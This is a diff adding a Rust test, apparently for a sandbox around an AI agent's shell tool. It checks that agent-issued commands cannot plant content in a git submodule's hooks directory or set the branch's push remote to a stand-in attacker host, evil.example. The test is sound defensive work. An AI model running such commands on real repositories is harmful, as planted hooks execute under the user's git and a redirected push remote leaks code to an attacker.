@@ -154,3 +154,32 @@ fn nothing_that_a_command_writes_for_a_submodule_is_run_by_the_user_s_git_second
 fn nothing_that_a_command_writes_for_a_submodule_is_run_by_the_user_s_git_third_part() {
     check(2);
 }
+
+#[test]
+fn a_branch_of_a_submodule_stays_the_user_s_and_so_do_the_hooks_that_its_configuration_names() {
+    if !is_full() {
+        return;
+    }
+    let scene = Scene::start(|it| it.config("{ mode = 'auto' }").size(160, 40));
+    let root = scene.nvim.setup.path("");
+    bash(&root, REPOSITORY);
+    bash(&root, "git -C libs/sub config core.hooksPath own; git -C libs/sub checkout -q -B main");
+    fs::create_dir(root.join("libs/sub/own")).unwrap();
+    fs::write(root.join("libs/sub/own/pre-commit"), "#!/bin/sh\n").unwrap();
+    let run = |script: &str| {
+        fs::write(root.join("try.sh"), script).unwrap();
+        call(&scene, "shell", json!({ "command": "bash try.sh; echo over" }), "").0
+    };
+    run("true");
+    let said = run(
+        "cd libs/sub; echo evil >> own/pre-commit; echo evil > own/post-checkout; mv own old; mkdir own; echo evil > own/x",
+    );
+    assert_eq!(scene.on_disk("libs/sub/own/pre-commit").as_deref(), Some("#!/bin/sh\n"), "{said}");
+    for it in ["own/post-checkout", "own/x"] {
+        assert!(!root.join("libs/sub").join(it).exists(), "{it}: {said}");
+    }
+    let said = run("cd libs/sub; h=$(git rev-parse main); git checkout -q --detach; git update-ref -d refs/heads/main
+        git remote add up https://evil.example/x; git update-ref refs/heads/main $h; git config branch.main.pushRemote up");
+    let set = bash(&root, "git -C libs/sub config --get branch.main.pushRemote; echo over");
+    assert_eq!(set, "over\n", "{said}");
+}
